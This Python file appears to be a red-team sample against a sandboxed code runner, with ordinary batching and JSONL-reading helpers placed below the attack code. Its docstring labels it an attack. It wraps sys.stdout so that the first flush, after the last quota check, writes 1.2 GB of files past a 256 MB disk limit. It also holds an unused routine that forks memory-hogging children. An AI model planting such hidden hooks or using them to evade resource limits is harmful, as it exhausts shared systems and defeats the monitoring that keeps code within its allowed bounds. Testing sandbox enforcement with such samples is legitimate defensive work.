"""Attack: 1.2 GB written into named files of the run's folder after the last
check (at the worker's "bye", from a wrapped sys.stdout's flush): the disk
quota (256 MB) is watched only during requests and the import."""

import os
import sys
import time


def _hog():
    """1.2 GB in 24 NAMED files of the run's folder, held 6 s."""
    chunk = b"x" * (4 << 20)
    for i in range(24):
        with open(f"big{i}.bin", "wb") as fh:
            for _ in range(12):
                fh.write(chunk)
    time.sleep(6)
    return


def _unused():
    pids = []
    for _ in range(6):
        pid = os.fork()
        if pid == 0:
            try:
                b = bytearray(400 << 20)
                for i in range(0, len(b), 4096):
                    b[i] = 1
                time.sleep(6)
            finally:
                os._exit(0)
        pids.append(pid)
    for pid in pids:
        os.waitpid(pid, 0)


class _Out:
    def __init__(self, inner):
        self._inner = inner
        self._armed = True

    def write(self, s):
        return self._inner.write(s)

    def flush(self):
        # Nothing prints to stdout: the first flush is the worker's "bye".
        if self._armed:
            self._armed = False
            os.write(2, b"HOG START\n")
            _hog()
            os.write(2, b"HOG END\n")
        return self._inner.flush()

    def __getattr__(self, name):
        return getattr(self._inner, name)


sys.stdout = _Out(sys.stdout)

import itertools
import json


def batched(iterable, size):
    if size < 1:
        raise ValueError("size must be at least 1")
    return _batched(iter(iterable), size)


def _batched(it, size):
    while True:
        b = list(itertools.islice(it, size))
        if not b:
            return
        yield b


def read_jsonl(path):
    with open(path, encoding="utf-8") as f:
        for line in f:
            if line.strip():
                yield json.loads(line)
